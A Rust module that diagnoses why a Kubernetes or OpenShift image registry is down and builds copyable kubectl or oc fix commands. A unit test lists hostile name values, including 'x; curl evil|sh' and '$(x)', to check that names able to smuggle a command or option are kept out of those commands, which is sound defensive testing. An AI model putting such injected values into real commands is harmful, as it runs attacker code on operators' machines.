// SPDX-License-Identifier: LGPL-2.1-or-later

//! Why a registry does not answer, as far as its cluster knows.

use images_proto::{Code, Failure, Offer};

use super::place::Place;
use crate::cluster::Cluster;
use crate::cluster::path::is_name;
use crate::cluster::workload::{Controller, Pod, Workload};

/// Why the registry at this place does not run; `None` when the cluster knows nothing against it.
/// `openshift`: it is the one that an operator keeps.
pub(super) async fn of(
    cluster: &Cluster,
    place: Option<&Place>,
    openshift: bool,
) -> Option<Failure> {
    if openshift && let Some(failure) = of_operator(cluster).await {
        return Some(failure);
    }
    let place = place?;
    match cluster.registry_workload(&place.namespace, &place.name).await {
        Ok(workload) => of_workload(place, &workload),
        Err(error) if error.is_not_found() && openshift => Some(absent()),
        Err(_) => None,
    }
}

async fn of_operator(cluster: &Cluster) -> Option<Failure> {
    let operator = cluster.image_registry_operator().await.ok()??;
    if !operator.is_removed() {
        return None;
    }
    let switch_on = r#"{"spec":{"managementState":"Managed"}}"#;
    Some(
        Failure::new(
            Code::NoRegistry,
            "OpenShift's registry is switched off: its operator has removed it.",
        )
        .with_fix("Switch it on and give it storage.")
        .with_command(format!(
            "oc patch configs.imageregistry.operator.openshift.io/cluster --type merge -p '{switch_on}'"
        ))
        .retryable()
        .offering(Offer::AddRegistry)
        .offering(Offer::SetRegistry),
    )
}

/// OpenShift without its registry.
pub(super) fn absent() -> Failure {
    Failure::new(Code::NoRegistry, "This cluster has no image registry.")
        .with_fix("Switch on the one that OpenShift has, or set the address of another.")
        .retryable()
        .offering(Offer::AddRegistry)
        .offering(Offer::SetRegistry)
}

fn of_workload(place: &Place, workload: &Workload) -> Option<Failure> {
    let namespace = &place.namespace;
    if workload.is_scaled_to_zero() {
        let controller = workload.controllers.as_deref().unwrap_or_default().first()?;
        let Controller { kind, name, .. } = controller;
        let resource = kind.replace(' ', "");
        let words =
            format!("The registry is switched off: the {kind} {namespace}/{name} runs no pod.");
        let command = format!("kubectl scale --replicas=1 -n {namespace} {resource}/{name}");
        return Some(with_command(down(words).with_fix("Have it run one."), name, command));
    }
    if workload.ready_pod().is_some() {
        return None;
    }
    if let Some(pod) = workload.failing_pod() {
        return Some(of_pod(namespace, pod));
    }
    let stuck = workload
        .controllers
        .iter()
        .flatten()
        .find_map(|controller| Some((controller, controller.message.as_ref()?)));
    if let Some((Controller { kind, name, .. }, message)) = stuck {
        let words =
            format!("The registry does not run: the {kind} {namespace}/{name} makes no pod.");
        return Some(
            down(words).with_fix("See what the cluster says in the details.").with_details(message),
        );
    }
    (workload.endpoints == Some(0)).then(|| {
        down(format!("The service {namespace}/{} has no pod behind it that is ready.", place.name))
            .with_fix("See why its pods do not run.")
            .with_command(format!("kubectl get pods,events -n {namespace}"))
    })
}

fn of_pod(namespace: &str, pod: &Pod) -> Failure {
    let Pod { name, phase, waiting_reason, message, restarts, .. } = pod;
    let reason = waiting_reason.as_deref();
    let crashes = *restarts > 0 || reason == Some("CrashLoopBackOff");
    let words = match (crashes, reason) {
        (true, _) => {
            format!("The registry crashes: the pod {namespace}/{name} ends again and again.")
        }
        (false, Some(reason)) => {
            format!("The registry does not run: the pod {namespace}/{name} waits ({reason}).")
        }
        (false, None) => {
            format!("The registry does not run: the pod {namespace}/{name} is not ready ({phase}).")
        }
    };
    let failure = down(words);
    let failure = match message {
        Some(message) => {
            failure.with_details(message).with_fix("Its last words are in the details.")
        }
        None => failure.with_fix("See what the cluster says about it."),
    };
    let what = if crashes { "logs --previous" } else { "describe pod" };
    with_command(failure, name, format!("kubectl {what} -n {namespace} {name}"))
}

/// With a command for people to copy, unless this name, which the cluster tells, would be more in it
/// than a name. That of the namespace was checked before anything was asked there.
fn with_command(failure: Failure, name: &str, command: String) -> Failure {
    match is_name(name) && !name.starts_with('-') {
        true => failure.with_command(command),
        false => failure,
    }
}

fn down(message: String) -> Failure {
    Failure::new(Code::RegistryUnreachable, message).retryable()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_that_is_none_stands_in_no_command() {
        let command = |name: &str| {
            let name = name.to_owned();
            let pod = Pod { name: name.clone(), ..Pod::default() };
            let of_pod = of_pod("shop", &pod).command;
            let controller =
                Controller { kind: "stateful set", name, wanted: 0, ready: 0, message: None };
            let workload = Workload { controllers: Some(vec![controller]), ..Workload::default() };
            let place = Place {
                namespace: "shop".to_owned(),
                name: "registry".to_owned(),
                port: 5000,
                address: None,
                tls: false,
                well_known: false,
            };
            (of_pod, of_workload(&place, &workload).unwrap().command)
        };
        let (of_pod, of_controller) = command("registry-0");
        assert_eq!(of_pod.as_deref(), Some("kubectl describe pod -n shop registry-0"));
        let expected = "kubectl scale --replicas=1 -n shop statefulset/registry-0";
        assert_eq!(of_controller.as_deref(), Some(expected));
        for bad in ["x; curl evil|sh", "--kubeconfig=x", "$(x)", ""] {
            assert_eq!(command(bad), (None, None), "{bad}");
        }
    }
}
